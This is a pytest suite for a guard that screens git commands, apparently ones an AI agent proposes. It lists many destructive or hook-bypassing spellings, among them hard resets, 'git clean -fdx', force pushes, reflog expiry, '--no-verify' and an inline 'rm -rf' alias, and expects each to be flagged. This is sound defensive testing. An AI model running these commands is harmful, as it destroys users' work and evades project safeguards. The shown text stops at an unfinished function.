"""The git pack, through the real engine, in a real repository with a commit.

The repository sits on the feature branch ``feature/login`` with ``main`` beside it, one
modified file and a sub-directory, so branch names, paths and the current branch are all real.
Where it matters, the same command is also run with the real git to show that the pack reads
it the way git does.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from railguard.config import Config
from railguard.engine import evaluate
from railguard.model import Action, Decision, Invocation, Verdict, Word
from railguard.rules import ALL_RULES
from railguard.rules import git as G
from railguard.rules.base import Context
from railguard.shell.paths import PathContext

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def _git(repo: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=Test", "-c", "user.email=t@example.com",
         "-c", "commit.gpgsign=false", *args],
        check=check, capture_output=True, text=True,
    )


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    h = tmp_path / "home"
    h.mkdir()
    monkeypatch.setenv("HOME", str(h))
    for var in ("XDG_CONFIG_HOME", "GIT_CONFIG_GLOBAL", "CLAUDE_PROJECT_DIR", "TMPDIR",
                "GIT_DIR", "GIT_WORK_TREE"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    return h


@pytest.fixture
def repo(tmp_path: Path, home: Path) -> Path:
    root = tmp_path / "proj"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("print('hi')\n")
    (root / "README.md").write_text("# app\n")
    subprocess.run(["git", "init", "-q", "-b", "main", str(root)], check=True)
    _git(root, "add", ".")
    _git(root, "commit", "-qm", "init")
    _git(root, "checkout", "-qb", "feature/login")
    (root / "README.md").write_text("# app\nwork in progress\n")
    return root


def check(command: str, cwd: Path, config: Config | None = None) -> Decision:
    action = Action("shell", "Bash", command=command, cwd=str(cwd), project_dir=str(cwd))
    return evaluate(action, config or Config())


def git_ids(command: str, cwd: Path, config: Config | None = None) -> list[str]:
    return [i for i in check(command, cwd, config).rule_ids if i.startswith("GIT")]


# -- every rule, every spelling --------------------------------------------------------------

FLAGGED = [
    # GIT001 hard reset
    ("git reset --hard", "GIT001"),
    ("git reset --hard HEAD~1", "GIT001"),
    ("git reset --hard origin/main", "GIT001"),
    ("git reset -q --hard", "GIT001"),
    ("git reset --merge", "GIT001"),
    ("git reset --mer HEAD~1", "GIT001"),
    ("git reset --ha HEAD~1", "GIT001"),
    ("git reset --hard \"HEAD\"", "GIT001"),
    ("git \"reset\" --hard", "GIT001"),
    ("git  reset  --hard", "GIT001"),
    ("git read-tree -u --reset HEAD", "GIT001"),
    # GIT002 clean
    ("git clean -f", "GIT002"),
    ("git clean -fd", "GIT002"),
    ("git clean -df", "GIT002"),
    ("git clean -xf", "GIT002"),
    ("git clean -fdx", "GIT002"),
    ("git clean -f -d -x", "GIT002"),
    ("git clean --force", "GIT002"),
    ("git clean --forc", "GIT002"),
    ("git clean -ffdx", "GIT002"),
    ("git clean -fX", "GIT002"),
    ("git clean -fd src", "GIT002"),
    ("git clean -i", "GIT002"),
    ("git -c clean.requireForce=false clean -d", "GIT002"),
    ("git clean -n && git clean -f", "GIT002"),
    # GIT003 whole tree
    ("git checkout -- .", "GIT003"),
    ("git checkout .", "GIT003"),
    ("git checkout HEAD -- .", "GIT003"),
    ("git checkout main -- .", "GIT003"),
    ("git checkout -- ':/'", "GIT003"),
    ("git checkout -- '*'", "GIT003"),
    ("git checkout -p", "GIT003"),
    ("git restore .", "GIT003"),
    ("git restore -- .", "GIT003"),
    ("git restore --worktree .", "GIT003"),
    ("git restore -W .", "GIT003"),
    ("git restore -SW .", "GIT003"),
    ("git restore --staged --worktree .", "GIT003"),
    ("git restore --source=HEAD~2 .", "GIT003"),
    ("git restore -s main :/", "GIT003"),
    ("git restore ':(top)'", "GIT003"),
    ("git checkout-index -f -a", "GIT003"),
    ("/usr/local/bin/git checkout -- .", "GIT003"),
    # GIT004 files
    ("git checkout -- README.md", "GIT004"),
    ("git checkout README.md", "GIT004"),
    ("git checkout HEAD README.md", "GIT004"),
    ("git checkout main README.md src/app.py", "GIT004"),
    ("git checkout HEAD -- src", "GIT004"),
    ("git checkout -- README.md src/app.py", "GIT004"),
    ("git checkout -- -f", "GIT004"),
    ("git restore -- --staged", "GIT004"),
    ("git restore -", "GIT004"),
    ("git checkout HEAD --pathspec-from-file=paths.txt", "GIT004"),
    ("git checkout -m README.md", "GIT004"),
    ("git checkout --ours README.md", "GIT004"),  # no conflict: it is a plain discard
    ("git restore README.md", "GIT004"),
    ("git restore README.md src/app.py", "GIT004"),
    ("git restore --worktree README.md", "GIT004"),
    ("git restore -W README.md", "GIT004"),
    ("git restore --source=HEAD README.md", "GIT004"),
    ("git restore -sHEAD README.md", "GIT004"),
    ("git restore -S -W README.md", "GIT004"),
    ("git restore --no-staged -W README.md", "GIT004"),
    ("git restore -- README.md --help", "GIT004"),
    ("git restore README.md --", "GIT004"),
    ("git restore --pathspec-from-file=paths.txt", "GIT004"),
    ("git restore -p", "GIT003"),
    ("git restore --patch README.md", "GIT004"),
    # the diff of the working tree applied in reverse takes the changes out of the files
    ("git diff | git apply -R", "GIT004"),
    ("git diff | git apply --reverse -", "GIT004"),
    ("git diff HEAD -- README.md | git apply -R --index", "GIT004"),
    ("git apply -R <(git diff)", "GIT004"),
    ("git -C src diff | git apply --rev", "GIT004"),
    ("git diff | git apply -R --3way", "GIT004"),
    # GIT005 forced switch
    ("git checkout -f main", "GIT005"),
    ("git checkout --force main", "GIT005"),
    ("git checkout --forc main", "GIT005"),
    ("git checkout -qf main", "GIT005"),
    ("git checkout -tf main", "GIT005"),
    ("git checkout -f -b new-branch", "GIT005"),
    ("git switch -f main", "GIT005"),
    ("git switch --force main", "GIT005"),
    ("git switch -qf main", "GIT005"),
    ("git switch --discard-changes main", "GIT005"),
    ("git switch --discard-ch main", "GIT005"),
    # GIT006 / GIT007 stash
    ("git stash clear", "GIT006"),
    ("git stash drop", "GIT007"),
    ("git stash drop stash@{0}", "GIT007"),
    ("git stash drop -q stash@{1}", "GIT007"),
    # GIT008 branch -D
    ("git branch -D main", "GIT008"),
    ("git branch -Dv main", "GIT008"),
    ("git branch --delete --force main", "GIT008"),
    ("git branch --force --delete main", "GIT008"),
    ("git branch -d -f main", "GIT008"),
    ("git branch --del --forc main", "GIT008"),
    # GIT009 force move of an existing branch
    ("git branch -f main HEAD", "GIT009"),
    ("git branch --force main", "GIT009"),
    ("git branch -M main", "GIT009"),
    ("git checkout -B main", "GIT009"),
    ("git checkout -Bmain", "GIT009"),
    ("git switch -C main", "GIT009"),
    ("git switch --force-create main", "GIT009"),
    ("git switch -C main HEAD~0", "GIT009"),
    ("git checkout -B main HEAD", "GIT009"),
    ("git update-ref refs/heads/main HEAD", "GIT009"),
    ("git update-ref -m move refs/heads/main HEAD main", "GIT009"),
    ("git update-ref HEAD main", "GIT009"),
    ("git update-ref \"refs/heads/$B\" HEAD", "GIT009"),
    ("git update-ref --stdin <<EOF\nupdate refs/heads/main HEAD\nEOF", "GIT009"),
    # GIT010 reflog
    ("git reflog expire --expire=now --all", "GIT010"),
    ("git reflog expire --expire now --all", "GIT010"),
    ("git reflog expire --expire-unreachable=now", "GIT010"),
    ("git reflog expire --expire=1.hour.ago refs/heads/main", "GIT010"),
    ("git reflog delete HEAD@{0}", "GIT010"),
    ("git -c gc.reflogExpire=now reflog expire --all", "GIT010"),
    # GIT011 prune
    ("git gc --prune=now", "GIT011"),
    ("git gc --prune=all", "GIT011"),
    ("git gc --aggressive --prune=now", "GIT011"),
    ("git prune", "GIT011"),
    ("git prune --expire=now", "GIT011"),
    ("git -c gc.pruneExpire=now gc", "GIT011"),
    # GIT012 rewrite
    ("git filter-branch --tree-filter 'rm -f secrets.txt' HEAD", "GIT012"),
    ("git filter-branch --index-filter 'git rm --cached --ignore-unmatch x' -- --all",
     "GIT012"),
    ("git filter-repo --path secrets.txt --invert-paths", "GIT012"),
    ("git-filter-repo --force", "GIT012"),
    # GIT013 update-ref -d
    ("git update-ref -d refs/heads/main", "GIT013"),
    ("git update-ref --no-deref -d HEAD", "GIT013"),
    ("git update-ref --stdin <<EOF\ndelete refs/heads/main\nEOF", "GIT013"),
    # GIT014 worktree
    ("git worktree remove --force ../wt", "GIT014"),
    ("git worktree remove -f ../wt", "GIT014"),
    ("git worktree remove -fa ../wt", "GIT014"),
    ("git worktree remove --forc ../wt", "GIT014"),
    # GIT015 force push
    ("git push --force", "GIT015"),
    ("git push -f", "GIT015"),
    ("git push origin main --force", "GIT015"),
    ("git push --force origin main", "GIT015"),
    ("git push -f origin main", "GIT015"),
    ("git push origin main -f", "GIT015"),
    ("git push --forc origin main", "GIT015"),
    ("git push --force=true origin main", "GIT015"),
    ("git push --force origin feature/login", "GIT015"),
    ("git push --force origin 'bugfix/issue#123'", "GIT015"),
    ("git push origin +main", "GIT015"),
    ("git push origin '+main'", "GIT015"),
    ("git push origin \"+feature/login\"", "GIT015"),
    ("git push origin +HEAD:refs/heads/main", "GIT015"),
    ("git push origin refs/heads/main:+refs/heads/main", "GIT015"),
    ("git push origin -- +refs/heads/main", "GIT015"),
    ("git push --force --force-with-lease", "GIT015"),
    ("git push -f --force-with-lease origin feature/login", "GIT015"),
    ("git push --force-with-lease origin +main", "GIT015"),
    ("git push --force-with-lease-if-includes origin main", "GIT015"),
    ("git -C . push --force", "GIT015"),
    ("git -c push.default=current push -f", "GIT015"),
    # GIT016 / GIT017 lease
    ("git push --force-with-lease origin main", "GIT016"),
    ("git push --force-with-lease origin master", "GIT016"),
    ("git push --force-with-lease origin HEAD:main", "GIT016"),
    ("git push --force-with-lease origin feature/login:release/2.0", "GIT016"),
    ("git push --force-with-lease origin release-2024", "GIT016"),
    ("git push --force-with-lease origin production", "GIT016"),
    ("git push --force-with-lease origin trunk", "GIT016"),
    ("git push --force-with-lease origin refs/heads/main", "GIT016"),
    ("git push --force-with-lease --all", "GIT016"),
    ("git push --force-with-lease origin \"$BRANCH\"", "GIT016"),
    ("git push --force-if-includes --force-with-lease origin main", "GIT016"),
    ("git push --force-with-lease", "GIT017"),
    ("git push --force-with-lease origin feature/login", "GIT017"),
    ("git push --force-with-lease origin HEAD", "GIT017"),
    ("git push --force-with-lease=feature/login origin feature/login", "GIT017"),
    ("git push --force-with-lease --force-if-includes origin feature/login", "GIT017"),
    # GIT018 - GIT021 other pushes
    ("git push --mirror origin", "GIT018"),
    ("git push --mir origin", "GIT018"),
    ("git push --delete origin old-branch", "GIT019"),
    ("git push origin --delete old-branch", "GIT019"),
    ("git push -d origin old-branch", "GIT019"),
    ("git push origin :old-branch", "GIT019"),
    ("git push origin :refs/heads/old-branch", "GIT019"),
    ("git push origin ':refs/tags/v1.0'", "GIT019"),
    ("git push --prune origin 'refs/heads/*:refs/heads/*'", "GIT020"),
    ("git push", "GIT021"),
    ("git push origin main", "GIT021"),
    ("git push origin main:main", "GIT021"),
    ("git push -u origin feature/login", "GIT021"),
    ("git push --tags", "GIT021"),
    ("git push origin tag v1.0", "GIT021"),
    # git send-pack, the plumbing under git push
    ("git send-pack --force origin main", "GIT015"),
    ("git send-pack --force git@example.com:o/r.git feature/login", "GIT015"),
    ("git send-pack ../mirror +main", "GIT015"),
    ("git send-pack --forc origin main", "GIT015"),
    ("git-send-pack --force origin main", "GIT015"),
    ("git send-pack --force-with-lease origin main", "GIT016"),
    ("git send-pack --mirror ../backup", "GIT018"),
    ("git send-pack origin :old-branch", "GIT019"),
    ("git send-pack origin feature/login", "GIT021"),
    # GIT022 - GIT025 hooks
    ("git commit --no-verify -m wip", "GIT022"),
    ("git commit -n -m wip", "GIT022"),
    ("git commit -nm wip", "GIT022"),
    ("git commit -anm wip", "GIT022"),
    ("git commit -am wip --no-verify", "GIT022"),
    ("git commit --no-verif -m wip", "GIT022"),
    ("git commit --amend --no-edit -n", "GIT022"),
    ("git push --no-verify origin feature/login", "GIT022"),
    ("git merge --no-verify main", "GIT022"),
    ("git rebase --no-verify main", "GIT022"),
    ("git am --no-verify < patch.mbox", "GIT022"),
    ("git pull --no-verify", "GIT022"),
    ("git -c core.hooksPath=/dev/null commit -m wip", "GIT023"),
    ("git -c core.hookspath= push origin feature/login", "GIT023"),
    ("git -ccore.hooksPath=/tmp/none commit -m wip", "GIT023"),
    ("git -c core.hooksPath=x status", "GIT023"),
    ("git --config-env=core.hooksPath=HOOKS commit -m wip", "GIT023"),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp "
     "git commit -m x", "GIT023"),
    ("GIT_CONFIG_PARAMETERS=\"'core.hooksPath'='/tmp'\" git commit -m x", "GIT023"),
    ("git config core.hooksPath /dev/null", "GIT024"),
    ("git config --global core.hooksPath ~/none", "GIT024"),
    ("git config --local core.hooksPath .nohooks", "GIT024"),
    ("git config --unset core.hooksPath", "GIT024"),
    ("git config --unset-all core.hooksPath", "GIT024"),
    ("git config set core.hooksPath x", "GIT024"),
    ("git config unset core.hooksPath", "GIT024"),
    ("git config --replace-all core.hooksPath x", "GIT024"),
    ("HUSKY=0 git commit -m wip", "GIT025"),
    ("HUSKY_SKIP_HOOKS=1 git commit -m wip", "GIT025"),
    ("SKIP=flake8,mypy git commit -m wip", "GIT025"),
    ("LEFTHOOK=0 git push origin feature/login", "GIT025"),
    ("OVERCOMMIT_DISABLE=1 git commit -m wip", "GIT025"),
    ("env HUSKY=0 git commit -m wip", "GIT025"),
    ("sudo env HUSKY=0 git commit -m wip", "GIT025"),
    # GIT026 inline shell alias
    ("git -c 'alias.x=!rm -rf build' x", "GIT026"),
    ("git -c alias.nuke=!echo nuke", "GIT026"),
    # GIT027 git rm -f
    ("git rm -rf src", "GIT027"),
    ("git rm -f README.md", "GIT027"),
    ("git rm --force -r src", "GIT027"),
    # GIT028 options known only at run time
    ("git branch $(cat branches-to-drop.txt)", "GIT028"),
    ("git branch -v `cat names`", "GIT028"),
    ("git reset $(cat target)", "GIT028"),
    ("git push $(cat args)", "GIT028"),
    ("git tag $(cat tags.txt)", "GIT028"),
    ("git clean $(cat opts)", "GIT028"),
    # GIT029 an operation in progress aborted (here: the repository is known only at run time)
    ("cd \"$REPO\" && git merge --abort", "GIT029"),
    ("git -C \"$REPO\" rebase --abort", "GIT029"),
    ("cd \"$REPO\" && git cherry-pick --abort", "GIT029"),
    # GIT030 local tag deleted (a name known only at run time may exist)
    ("git tag -d \"$TAG\"", "GIT030"),
    ("git tag --delete $(git tag -l 'tmp-*')", "GIT030"),
    ("git tag -d v1", "GIT030"),
    ("git merge --abort", "GIT029"),
    # GIT032 the ssh transport replaced by another program
    ("GIT_SSH_COMMAND=./helper git fetch origin", "GIT032"),
    ("git -c core.sshCommand=./helper fetch origin", "GIT032"),
    # GIT031 submodule working trees removed by force
    ("git submodule deinit -f --all", "GIT031"),
    ("git submodule deinit --force vendor/lib", "GIT031"),
    ("git submodule --quiet deinit -f -- vendor/lib", "GIT031"),
    ("git submodule deinit -qf vendor/lib", "GIT031"),
    ("git submodule deinit --forc vendor/lib", "GIT031"),
    ("git -C src submodule deinit --all --force", "GIT031"),
]

ALLOWED = [
    "git status", "git status --short --branch", "git log --oneline -10", "git diff",
    "git diff HEAD~1", "git diff --cached", "git show HEAD", "git add .", "git add -A",
    "git add README.md", "git add reset --hard", "git commit -m 'message'",
    "git commit -am 'test message'", "git commit -m \"rm -rf and reset --hard\"",
    "git commit -m 'Fix git push --force detection'", "git commit -uno -m wip",
    "git commit -S -m signed", "git commit --no-verify --dry-run -m x",
    "git tag -m \"Document rm -rf\" v1.2.3", "git fetch", "git fetch --all", "git fetch --prune",
    "git pull", "git pull --rebase", "git pull origin main", "git merge main",
    "git merge --no-ff main", "git merge -n main", "git rebase main",
    "git rebase -i HEAD~3", "git cherry-pick abc1234", "git stash",
    "git stash push", "git stash list", "git stash show", "git stash pop", "git stash apply",
    "git stash -u", "git branch", "git branch -a", "git branch -v", "git branch feature-new",
    "git branch -d main", "git branch -d merged-branch", "git branch --show-current",
    "git branch -f brand-new HEAD", "git branch -m old-name new-name",
    "git checkout -b feature", "git checkout -b feature/new-thing", "git checkout -bfeature",
    "git checkout -qbfeature", "git checkout -Bnew-branch", "git checkout --orphan gh-pages",
    "git checkout main", "git checkout master", "git checkout -", "git checkout @{-1}",
    "git checkout --detach main", "git checkout -m main", "git checkout HEAD~2",
    "git checkout feature/does-not-exist-yet", "git switch main", "git switch -c feature",
    "git switch -cfeature", "git switch -Cfixup", "git switch --detach main",
    "git switch -- -f", "git restore --staged README.md", "git restore -S README.md",
    "git restore --staged .", "git restore -qS README.md", "git restore",
    "git restore --worktree", "git restore --", "git restore --no-staged README.md",
    "git restore -W --no-worktree README.md", "git restore -p -S",
    "git restore -h", "git restore --help",
    "git restore README.md --help", "git reset", "git reset HEAD", "git reset HEAD~1",
    "git reset --soft HEAD~1", "git reset --mixed HEAD", "git reset HEAD README.md",
    "git reset --keep HEAD~1", "git reset -p", "git clean -n", "git clean -dn",
    "git clean -nd", "git clean --dry-run", "git clean -nf", "git clean --dry-r --forc",
    "git clean -fdx node_modules", "git clean -fd dist build", "git clean", "git clean -d",
    "git push --dry-run", "git push -n origin main", "git push --dry-run --force",
    "git push --force-with-lease --dry-run origin main", "git gc", "git gc --aggressive",
    "git gc --prune=2.weeks.ago", "git prune --dry-run", "git prune -n",
    "git prune --expire=2.weeks.ago", "git reflog", "git reflog show main",
    "git reflog expire --dry-run --expire=now --all", "git filter-repo --analyze",
    "git update-ref refs/heads/x HEAD", "git worktree list", "git worktree prune",
    "git worktree remove ../wt", "git worktree remove -- -f", "git worktree add ../wt main",
    "git rm -r src", "git rm README.md", "git rm --cached .env", "git rm -rf --cached build",
    "git rm -r -n -f src", "git config --get core.hooksPath", "git config core.hooksPath",
    "git config get core.hooksPath", "git config --list", "git config user.name bot",
    "git -c user.name=bot commit -m wip", "git -c alias.st=status st",
    "GIT_AUTHOR_NAME=bot git commit -m wip", "HUSKY=0 git status", "HUSKY=1 git commit -m x",
    "SKIP= git commit -m x", "git --version", "git -v", "git --help", "git help reset",
    "git reset -h", "git push -h", "git", "git --", "git -- --help", "git --no-pager log",
    "git -P diff", "git -C src status", "git -Csrc status", "sudo git status",
    "env FOO=1 git status", "command git status", "\\git status", "git remote -v",
    "git tag v1.0.0", "git RESET --HARD", "git describe --tags",
    "git branch \"$NAME\"", "git branch feature/$TICKET", "git reset -- $(git diff --name-only)",
    "git reset --soft $(git merge-base main HEAD)", "git log $(git merge-base main HEAD)..",
    "git tag -a v2 -m \"$(cat notes.txt)\"", "git commit -m \"$(cat msg.txt)\"",
    "git checkout --track direct main", "git checkout --track inherit main",
    "git checkout --recurse-submodules checkout main", "git checkout -t origin/none",
    "git checkout HEAD main", "git restore main",
    "echo 'git reset --hard'", "grep 'git reset --hard' README.md",
    "cat <<EOF\ngit reset --hard\nEOF", "git log --grep='push --force'",
    "git commit -F - <<EOF\nrevert: stop calling git reset --hard\nEOF",
    # settings whose value is a plain program or a harmless command
    "git config core.editor vim", "git config --global core.editor 'code --wait'",
    "git config core.pager 'less -R'", "git config set core.pager less",
    "git config core.fsmonitor true", "git config pager.branch false",
    "git config credential.helper store", "git config alias.st status",
    "git config alias.lg '!git log --oneline --graph'", "git config alias.st status && git st",
    "git config --unset core.pager", "git config core.sshCommand",
    "git config diff.external", "git config --get filter.lfs.clean",
    "git config filter.lfs.clean 'git-lfs clean -- %f'",
    # patches: applied, checked, or reversed from a file that keeps them
    "git apply fix.patch", "git apply -R fix.patch", "git apply --reverse -3 fix.patch",
    "git diff | git apply -R --check", "git diff | git apply -R --stat",
    "git diff --cached | git apply -R --cached", "git diff | tee saved.patch | git apply -R",
    "git diff > saved.patch && git apply -R saved.patch", "cat fix.patch | git apply -R",
    "git diff | git apply",
    # send-pack without force, branches created rather than moved
    "git send-pack --dry-run --force origin main",
    "git update-ref refs/heads/brand-new HEAD", "git update-ref --no-deref HEAD main",
    "git update-ref refs/tags/v9 HEAD", "git update-ref refs/remotes/origin/x HEAD",
    "git checkout -B brand-new HEAD", "git switch -C brand-new main",
    "git branch -f brand-new main", "git branch --force another-new",
    # submodules: without force git refuses to drop local changes
    "git submodule deinit vendor/lib", "git submodule deinit --all", "git submodule deinit -f",
    "git submodule update --init --recursive", "git submodule status",
]


@pytest.mark.parametrize(("command", "rule"), FLAGGED, ids=[c for c, _ in FLAGGED])
def test_flagged(command: str, rule: str, repo: Path) -> None:
    decision = check(command, repo)
    assert rule in decision.rule_ids, (command, decision.findings)
    expected = ALL_RULES[rule].verdict
    assert decision.verdict >= expected
    finding = next(f for f in decision.findings if f.rule_id == rule)
    assert finding.verdict == expected
    assert finding.message and finding.instead


@pytest.mark.parametrize("command", ALLOWED)
def test_allowed(command: str, repo: Path) -> None:
    assert git_ids(command, repo) == []


def test_every_rule_is_exercised() -> None:
    ids = {r.id for r in G.RULES}
    assert ids == {rule for _, rule in FLAGGED}
    assert all(r.id.startswith("GIT") and r.bad and r.good for r in G.RULES)


# -- wrappers and composition ----------------------------------------------------------------

WRAPPED = [
    ("sudo git reset --hard", "GIT001"),
    ("sudo -u root git clean -fd", "GIT002"),
    ("env GIT_DIR=.git git reset --hard", "GIT001"),
    ("env -i git reset --hard", "GIT001"),
    ("command git reset --hard", "GIT001"),
    ("time git reset --hard", "GIT001"),
    ("nohup git reset --hard", "GIT001"),
    ("nice git reset --hard", "GIT001"),
    ("timeout 5 git reset --hard", "GIT001"),
    ("\\git reset --hard", "GIT001"),
    ("/usr/bin/git reset --hard", "GIT001"),
    ("bash -c 'git reset --hard'", "GIT001"),
    ("sh -lc 'git clean -fdx'", "GIT002"),
    ("bash <<EOF\ngit reset --hard\nEOF", "GIT001"),
    ("sh <<<'git stash clear'", "GIT006"),
    ("git status && git reset --hard", "GIT001"),
    ("echo ok; git push --force", "GIT015"),
    ("(git reset --hard)", "GIT001"),
    ("{ git reset --hard; echo done; }", "GIT001"),
    ("echo $(git reset --hard)", "GIT001"),
    ("echo ok | xargs git reset --hard", "GIT001"),
    ("git branch --merged | xargs git branch -D", "GIT008"),
    ("echo old | xargs git push origin --delete", "GIT019"),
    ("echo main | xargs -I{} git push --force-with-lease origin {}", "GIT016"),
    ("find . -name '*.orig' -exec git checkout -- {} \\;", "GIT004"),
    ("find . -exec git reset --hard \\;", "GIT001"),
    ("parallel git reset --hard ::: ok", "GIT001"),
    ("watch -n1 git reset --hard", "GIT001"),
    ("git -C src reset --hard", "GIT001"),
    ("git -Csrc reset --hard", "GIT001"),
    ("git --git-dir=.git reset --hard", "GIT001"),
    ("git --git-dir .git --work-tree . reset --hard", "GIT001"),
    ("git --no-pager reset --hard", "GIT001"),
    ("git -c foo=bar reset --hard", "GIT001"),
    ("git -cfoo=bar reset --hard", "GIT001"),
    ("git -- reset --hard", "GIT001"),
    ("git --config-env submodule.recurse=RECURSE reset --hard", "GIT001"),
    ("git -p --bare --namespace=x reset --hard", "GIT001"),
    ("git -c alias.nuke=reset nuke --hard", "GIT001"),
    ("git -calias.force=push force origin +main", "GIT015"),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.nuke GIT_CONFIG_VALUE_0=reset git nuke --hard",
     "GIT001"),
    ("GIT_CONFIG_PARAMETERS=\"'alias.nuke=reset'\" git nuke --hard", "GIT001"),
    ("git -c alias.wipe='clean -fdx' wipe", "GIT002"),
    # an alias written earlier in the same command line
    ("git config alias.r 'reset --hard' && git r", "GIT001"),
    ("git config --global alias.p 'push --force'; git p origin feature/login", "GIT015"),
    ("git config set alias.wipe 'clean -fdx' && git -C src wipe", "GIT002"),
    ("/usr/lib/git-core/git-reset --hard", "GIT001"),
]


@pytest.mark.parametrize(("command", "rule"), WRAPPED, ids=[c for c, _ in WRAPPED])
def test_wrapped(command: str, rule: str, repo: Path) -> None:
    assert rule in git_ids(command, repo)


def test_ordinary_wrapped_calls_stay_quiet(repo: Path) -> None:
    for command in ("sudo env VAR=1 git status", "git status; git log -1",
                    "bash -c 'git diff --stat'", "git fetch && git rebase origin/main",
                    "git add -A && git commit -m 'drop git reset --hard from docs'"):
        assert git_ids(command, repo) == [], command


# -- paths by meaning: cd, pushd, -C ---------------------------------------------------------


def test_dot_is_the_whole_tree_only_at_the_top(repo: Path) -> None:
    assert "GIT003" in git_ids("git checkout -- .", repo)
    assert git_ids("cd src && git checkout -- .", repo) == ["GIT004"]
    assert git_ids("pushd src && git restore .", repo) == ["GIT004"]
    assert git_ids("git -C src checkout .", repo) == ["GIT004"]
    assert git_ids("git -C src -C .. checkout .", repo) == ["GIT003"]
    assert git_ids("cd src && git checkout -- ..", repo) == ["GIT003"]
    # started from inside the sub-directory, the same walks work
    assert git_ids("git restore ..", repo / "src") == ["GIT003"]
    assert git_ids("git restore :/", repo / "src") == ["GIT003"]


def test_unknown_directory_fails_closed(repo: Path) -> None:
    assert "GIT003" in git_ids('cd "$WORK" && git checkout .', repo)
    assert "GIT004" in git_ids('git checkout -- "$FILE"', repo)
    assert "GIT001" in git_ids('git -C "$DIR" reset --hard', repo)


def test_messages_name_the_place(repo: Path, tmp_path: Path) -> None:
    d = check("cd src && git checkout -- app.py", repo)
    f = next(f for f in d.findings if f.rule_id == "GIT004")
    assert "src/app.py" in f.message
    d = check("git reset --hard", repo)
    assert "in this project" in d.findings[0].message
    other = tmp_path / "other"
    subprocess.run(["git", "init", "-q", str(other)], check=True)
    d = check(f"git -C {other} clean -fdx", repo)
    f = next(f for f in d.findings if f.rule_id == "GIT002")
    assert str(other) in f.message and "ignored" in f.message


def test_checkout_name_is_branch_or_file_as_git_decides(repo: Path) -> None:
    """Without ``--`` git takes an existing branch as a branch, otherwise an existing path."""
    assert git_ids("git checkout main", repo) == []
    assert git_ids("git checkout README.md", repo) == ["GIT004"]
    assert git_ids("git checkout src", repo) == ["GIT004"]
    assert git_ids("git checkout no-such-thing", repo) == []
    # the real git agrees: README.md is overwritten, main is switched to
    probe = repo.parent / "probe"
    shutil.copytree(repo, probe)
    _git(probe, "checkout", "README.md")
    assert (probe / "README.md").read_text() == "# app\n"
    _git(probe, "checkout", "-q", "main")
    assert _git(probe, "branch", "--show-current").stdout.strip() == "main"


def test_remote_branch_name_counts_as_branch(repo: Path) -> None:
    (repo / "deploy").write_text("x\n")
    assert git_ids("git checkout deploy", repo) == ["GIT004"]
    _git(repo, "update-ref", "refs/remotes/origin/deploy", "HEAD")
    assert git_ids("git checkout deploy", repo) == []


def test_conflict_sides_are_resolution_only_during_a_conflict(repo: Path) -> None:
    assert git_ids("git checkout --theirs README.md", repo) == ["GIT004"]
    git_dir = repo / ".git"
    (git_dir / "MERGE_HEAD").write_text(_git(repo, "rev-parse", "HEAD").stdout)
    assert git_ids("git checkout --theirs README.md", repo) == []
    assert git_ids("git restore --ours README.md", repo) == []


# -- current branch, protected branches ------------------------------------------------------


def test_lease_follows_the_current_branch(repo: Path) -> None:
    assert git_ids("git push --force-with-lease", repo) == ["GIT017"]
    _git(repo, "stash")
    _git(repo, "checkout", "-q", "main")
    assert git_ids("git push --force-with-lease", repo) == ["GIT016"]
    assert git_ids("git push --force-with-lease origin HEAD", repo) == ["GIT016"]
    _git(repo, "checkout", "-q", "--detach")
    assert git_ids("git push --force-with-lease", repo) == ["GIT016"]


def test_lease_in_a_linked_worktree(repo: Path, tmp_path: Path) -> None:
    wt = tmp_path / "wt"
    _git(repo, "worktree", "add", "-q", "-b", "topic", str(wt))
    assert (wt / ".git").is_file()
    assert git_ids("git push --force-with-lease", wt) == ["GIT017"]
    assert git_ids(f"git -C {wt} push --force-with-lease", repo) == ["GIT017"]
    assert git_ids("git checkout -B topic", repo) == ["GIT009"]


def test_protected_branches_from_config(repo: Path) -> None:
    cfg = Config()
    cfg.protected_branches = ["feature/*"]
    assert git_ids("git push --force-with-lease", repo, cfg) == ["GIT016"]
    assert git_ids("git push --force-with-lease origin topic", repo, cfg) == ["GIT017"]


def test_verdicts_can_be_changed_per_rule(repo: Path) -> None:
    cfg = Config()
    cfg.verdicts["GIT021"] = Verdict.ALLOW
    assert check("git push origin feature/login", repo, cfg).verdict == Verdict.ALLOW
    cfg.verdicts["GIT017"] = Verdict.DENY
    assert check("git push --force-with-lease", repo, cfg).verdict == Verdict.DENY
    cfg.disabled.add("GIT004")
    assert check("git restore README.md", repo, cfg).verdict == Verdict.ALLOW
    # the default answers
    assert check("git reset --hard", repo).verdict == Verdict.DENY
    assert check("git push", repo).verdict == Verdict.ASK
    assert check("git status", repo).verdict == Verdict.ALLOW


# -- aliases from config files ---------------------------------------------------------------


def test_aliases_from_global_and_repo_config(repo: Path, home: Path) -> None:
    subprocess.run(["git", "config", "--global", "alias.nuke", "reset --hard"], check=True)
    assert (home / ".gitconfig").is_file()
    _git(repo, "config", "alias.wipe", "!git clean -fdx")
    _git(repo, "config", "alias.ship", "push --force")
    _git(repo, "config", "alias.co", "checkout")
    assert git_ids("git nuke", repo) == ["GIT001"]
    assert git_ids("git nuke", repo / "src") == ["GIT001"]
    assert git_ids("git ship", repo) == ["GIT015"]
    assert git_ids("git co -- .", repo) == ["GIT003"]
    assert git_ids("git co main", repo) == []
    # a shell alias from a config file is judged by what it runs (stricter than the old
    # blanket ask: `git clean -fdx` is denied); GIT026 is kept for aliases defined inline
    assert git_ids("git wipe", repo) == ["GIT002"]
    _git(repo, "config", "alias.lg", "!git log --oneline --graph")
    assert git_ids("git lg", repo) == []
    # an alias cannot shadow a built-in command
    _git(repo, "config", "alias.status", "reset --hard")
    assert git_ids("git status", repo) == []


# -- the pack's reading agrees with the real git ---------------------------------------------


def _call(command: list[str], cwd: Path, home: Path) -> G.GitCall:
